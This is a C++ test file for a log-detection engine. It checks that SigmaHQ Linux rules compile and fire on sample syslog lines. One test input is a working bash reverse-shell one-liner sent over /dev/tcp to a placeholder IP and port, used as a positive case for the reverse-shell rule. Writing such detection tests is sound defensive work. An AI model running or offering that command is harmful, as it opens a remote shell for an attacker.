// The SigmaHQ Linux rules of the shared corpus run unchanged on gsoc: every
// supported one compiles into the matcher, and they fire on the lines they
// describe (real ones from the corpus logs, and lines written after the
// rules' own keywords).
#include <gtest/gtest.h>

#include <filesystem>
#include <set>

#include "collectors/syslog/syslog_parser.h"
#include "engine/detect/detection_stage.h"

namespace gsoc {
namespace {

namespace fs = std::filesystem;
const fs::path kCorpus = GSOC_CORPUS_DIR;
const fs::path kPack = fs::path(GSOC_SOURCE_DIR) / "rules";

class CorpusRulesTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    RuleSources sources;
    sources.rule_paths = {kCorpus / "sigma/rules", kCorpus / "sigma/rules-emerging-threats"};
    sources.decoder_paths = {kPack / "decoders"};
    sources.logsources = kPack / "logsources.yaml";
    sources.agency_names = {"unknown"};
    build_ = new RuleEngineBuild(BuildRuleEngine(sources));
  }
  static void TearDownTestSuite() { delete build_; }

  static std::set<std::string> Fired(const std::string& line) {
    EventBatch batch;
    Event& event = batch.AddEvent();
    const auto copy = batch.arena().CopyPadded(line);
    SyslogParseContext context;
    context.receive_time_ns = 1'764'064'800'000'000'000;
    EventFormat failed;
    ParseSyslog(copy, context, event, batch, &failed);
    EngineScratch scratch = MakeEngineScratch(*build_->engine);
    std::set<std::string> ids;
    DetectEvent(*build_->engine, batch, event, scratch,
                [&](const rules::Rule& rule) { ids.insert(rule.id); });
    return ids;
  }

  static RuleEngineBuild* build_;
};
RuleEngineBuild* CorpusRulesTest::build_ = nullptr;

TEST_F(CorpusRulesTest, EverySupportedRuleCompiles) {
  for (const auto& error : build_->refused) ADD_FAILURE() << error.ToString();
  for (const auto& fatal : build_->fatal) ADD_FAILURE() << fatal.ToString();
  ASSERT_TRUE(build_->engine);
  EXPECT_EQ(build_->rules_loaded, 26u);  // all of rules/ and rules-emerging-threats/
}

TEST_F(CorpusRulesTest, FireOnTheLinesTheyDescribe) {
  ASSERT_TRUE(build_->engine);
  // A real line of loghub Linux.log: lnx_file_copy (Remote File Copy).
  EXPECT_EQ(Fired("<78>Oct 23 12:39:46 combo rsyncd[22517]: rsync error: error in rsync "
                  "protocol data stream (code 12) at io.c(342)"),
            std::set<std::string>{"7a14080d-a048-4de8-ae58-604ce58a795b"});
  // lnx_sshd_susp_ssh: Suspicious OpenSSH Daemon Error.
  EXPECT_EQ(Fired("<38>Nov 25 10:00:01 bastion sshd[812]: fatal: Corrupted MAC on input."),
            std::set<std::string>{"e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"});
  // lnx_shell_susp_rev_shells: a reverse shell in any syslog line.
  EXPECT_TRUE(Fired("<13>Nov 25 10:00:02 web1 bash[99]: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")
                  .count("738d9bcf-6999-4fdb-b4ac-3033037db8ab"));
  // Nothing on an ordinary line.
  EXPECT_TRUE(Fired("<38>Nov 25 10:00:03 bastion sshd[813]: Accepted publickey for bob from "
                    "198.18.0.21 port 51002 ssh2")
                  .empty());
}

}  // namespace
}  // namespace gsoc
